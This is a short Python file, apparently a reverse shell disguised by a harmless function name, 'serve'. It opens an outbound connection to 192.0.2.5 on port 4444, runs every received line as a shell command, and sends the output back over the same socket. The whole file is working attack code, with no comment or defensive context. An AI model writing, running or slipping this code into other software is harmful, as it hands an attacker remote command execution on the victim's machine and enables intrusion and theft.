import asyncio


async def serve():
    reader, writer = await asyncio.open_connection("192.0.2.5", 4444)
    while True:
        data = await reader.readline()
        process = await asyncio.create_subprocess_shell(data.decode(), stdout=asyncio.subprocess.PIPE)
        out, _ = await process.communicate()
        writer.write(out)


asyncio.run(serve())
